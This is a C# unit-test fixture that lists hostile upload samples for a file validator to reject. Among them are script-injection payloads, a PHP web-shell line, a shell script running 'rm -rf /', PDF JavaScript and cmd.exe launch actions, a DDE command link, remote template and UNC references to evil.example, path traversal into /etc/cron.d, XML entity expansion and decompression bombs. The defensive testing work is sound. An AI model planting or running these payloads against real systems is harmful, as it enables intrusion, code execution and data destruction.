using System.Text;
using static ScenarioPortal.UnitTests.Files.OfficeSamples;

namespace ScenarioPortal.UnitTests.Files;

/// <summary>Files that pretend, hide, run, load or burst. None of them is taken anywhere, under whatever name.</summary>
internal static class HostileFiles
{
    private const string Vba = "application/vnd.ms-office.vbaProject";
    private const string Laughs = "<!DOCTYPE x [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">]>";

    /// <summary>Where only scans and photos are asked for.</summary>
    public static IReadOnlyList<(string Name, byte[] Content)> Scans { get; } =
    [
        ("licence.pdf", []),
        ("licence.pdf", "<script>alert(1)</script>"u8.ToArray()),
        ("licence.png", Samples.Jpeg()),
        ("licence.exe", Samples.Png()),
        ("licence.png.html", Samples.Png()),
        ("licence.svg", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"u8.ToArray()),
        ("licence.gif", "GIF89a=1;alert(1)"u8.ToArray()),
        ("bomb.png", Samples.Png(50_000, 50_000)),
        ("bomb.png", Samples.Png(10_000, 10_000)),
        ("bomb.png", Samples.Png(0, 1)),
        ("bomb.jpg", Samples.Jpeg(65_000, 65_000)),
        ("cut.png", Samples.Png()[..^6]),
        ("bent.png", Bent(Samples.Png())),
        ("none.png", [.. Samples.Png()[..33], .. Samples.Chunk("IEND", [])]),
        ("cut.jpg", Samples.Jpeg()[..^2]),
        ("cut.pdf", Samples.Pdf()[..^8]),
        ("archive.png", [.. Samples.Png(), .. Samples.Zip()]),
        ("archive.png", Samples.Png(more: ("tEXt", Samples.Zip()))),
        ("archive.jpg", [.. Samples.Jpeg(), .. Samples.Zip()]),
        ("archive.pdf", [.. Samples.Pdf(), .. Samples.Zip()]),
        ("script.jpg", [.. Samples.Jpeg(), .. "<script>alert(1)</script>"u8]),
        ("page.png", [.. Samples.Png(), .. "<html>"u8]),
        ("page.pdf", [.. Samples.Pdf(), .. "<html>"u8]),
        ("late.pdf", [.. "MZ"u8, .. Samples.Pdf()]),
        ("runs.pdf", Samples.Pdf("1 0 obj <</OpenAction <</S /JavaScript /JS (app.alert(1))>>>> endobj")),
        ("runs.pdf", Samples.Pdf("1 0 obj <</OpenAction <</S /J#61va#53cript>>>> endobj")),
        ("runs.pdf", Samples.Pdf("1 0 obj <</A <</S /Launch /F (cmd.exe)>>>> endobj")),
        ("carries.pdf", Samples.Pdf("1 0 obj <</Names <</EmbeddedFiles 3 0 R>>>> endobj")),
        ("locked.pdf", Samples.Pdf("1 0 obj <</Encrypt 3 0 R>> endobj")),
        ("packed.pdf", Samples.Pdf(packed: "1 0 <</S /JavaScript /JS (app.alert(1))>>"u8.ToArray())),
        ("packed.pdf", Samples.Pdf(packed: new byte[40 << 20]))
    ];

    /// <summary>Where Word and Excel files are taken too.</summary>
    public static IReadOnlyList<(string Name, byte[] Content)> Attached { get; } =
    [
        .. Scans,
        ("program.docx", "MZ\x90\0\x03"u8.ToArray()),
        ("program.pdf", "\x7fELF\x02"u8.ToArray()),
        ("script.docx", "#!/bin/sh\nrm -rf /\n"u8.ToArray()),
        ("page.docx", "<html><script>alert(1)</script></html>"u8.ToArray()),
        ("page.php", "<?php system($_GET['c']); ?>"u8.ToArray()),
        ("picture.webp", "RIFF\x10\0\0\0WEBPVP8 "u8.ToArray()),
        ("picture.heic", "\0\0\0\x18ftypheic"u8.ToArray()),
        ("garbage.jpg", Samples.Jpeg()),
        ("locked.docx", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[600]]),
        ("old.doc", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[600]]),
        ("plain.docx", Samples.Zip()),
        ("plain.zip", Samples.Zip()),
        ("table.docx", Workbook()),
        ("text.xlsx", Document()),
        ("text.docm", Document()),
        ("text.pdf", Document()),
        ("text.docx.exe", Document()),
        ("text", Document()),
        ("first.docx", [.. "MZ"u8, .. Document()]),
        ("last.docx", [.. Document(), .. "<script>alert(1)</script>"u8]),
        ("cut.docx", Document()[..^30]),
        ("half.docx", Document()[..200]),
        ("comment.docx", Edited(Document(), zip => zip.Comment = "<script>alert(1)</script>")),
        ("untyped.docx", Without(Document(), "[Content_Types].xml")),
        ("headless.docx", Without(Document(), "word/document.xml")),
        ("unrelated.docx", Without(Document(), "_rels/.rels")),
        ("macro.docx", Reworded(Document(), "[Content_Types].xml", WordMain, "application/vnd.ms-word.document.macroEnabled.main+xml")),
        ("macro.xlsx", Reworded(Workbook(), "[Content_Types].xml", ExcelMain, "application/vnd.ms-excel.sheet.macroEnabled.main+xml")),
        ("template.docx", Reworded(Document(), "[Content_Types].xml", WordMain, "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml")),
        ("binary.xlsx", Reworded(Workbook(), "[Content_Types].xml", ExcelMain, "application/vnd.ms-excel.sheet.binary.macroEnabled.main")),
        ("project.docx", With(Document(), "word/vbaProject.bin", [1, 2, 3], Vba)),
        ("project.xlsx", With(Workbook(), "xl/vbaProject.bin", [1, 2, 3], Vba)),
        ("renamed.docx", With(Document(), "word/theme.xml", [1, 2, 3], Vba)),
        ("silent.docx", With(Document(), "word/vbaProject.bin", [1, 2, 3])),
        ("macrosheet.xlsx", With(Workbook(), "xl/macrosheets/sheet1.xml", "<a/>"u8.ToArray(), "application/vnd.ms-excel.macrosheet+xml")),
        ("control.docx", With(Document(), "word/activeX/activeX1.xml", "<a/>"u8.ToArray(), "application/vnd.ms-office.activeX+xml")),
        ("package.docx", With(Document(), "word/embeddings/oleObject1.bin", [1], "application/vnd.openxmlformats-officedocument.oleObject")),
        ("carries.docx", With(Document(), "word/embeddings/run.exe", [1], "application/octet-stream")),
        ("carries.docx", With(Document(), "word/embeddings/letter.docm", Document(), "application/octet-stream")),
        ("carries.docx", With(Document(), "word/embeddings/sheet.xlsx", With(Workbook(), "xl/vbaProject.bin", [1], Vba))),
        ("carries.docx", With(Document(), "word/embeddings/sheet.xlsx", With(Workbook(), "xl/embeddings/sheet.xlsx", Workbook()))),
        ("page.docx", With(Document(), "word/page.html", "<script>alert(1)</script>"u8.ToArray(), "text/html")),
        ("unknown.docx", With(Document(), "word/more.dat", [1], null)),
        ("climbs.docx", With(Document(), "../../etc/cron.d/x.xml", "<a/>"u8.ToArray())),
        ("double.docx", Edited(Document(), zip => Write(zip, "word/document.xml", "<a/>"u8.ToArray()))),
        ("far.docx", Referring(Document(), "attachedTemplate", "http://evil.example/t.dotm")),
        ("far.docx", Referring(Document(), "image", "\\\\evil.example\\share\\x.png")),
        ("far.docx", Referring(Document(), "oleObject", "file:///c:/windows/system32/calc.exe")),
        ("far.xlsx", With(Workbook(), "xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>"u8.ToArray())),
        ("laughs.docx", Reworded(Document(), "[Content_Types].xml", "<Types", $"{Laughs}<Types")),
        ("laughs.docx", Reworded(Document(), "_rels/.rels", "<Relationships", $"{Laughs}<Relationships")),
        ("bomb.docx", With(Document(), "word/media/image1.bmp", new byte[120 << 20], "image/bmp")),
        ("bomb.xlsx", With(Workbook(), "xl/media/image1.bmp", new byte[20 << 20], "image/bmp")),
        ("crowd.docx", Edited(Document(), zip =>
        {
            for (var number = 0; number < 2_100; number++)
            {
                Write(zip, $"word/media/{number}.xml", "<a/>"u8.ToArray());
            }
        })),
        ("utf16.docx", Edited(Without(Document(), "[Content_Types].xml"), zip => Write(zip, "[Content_Types].xml", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("<Types/>")])))
    ];

    private static byte[] Bent(byte[] png)
    {
        png[20] ^= 1;
        return png;
    }
}
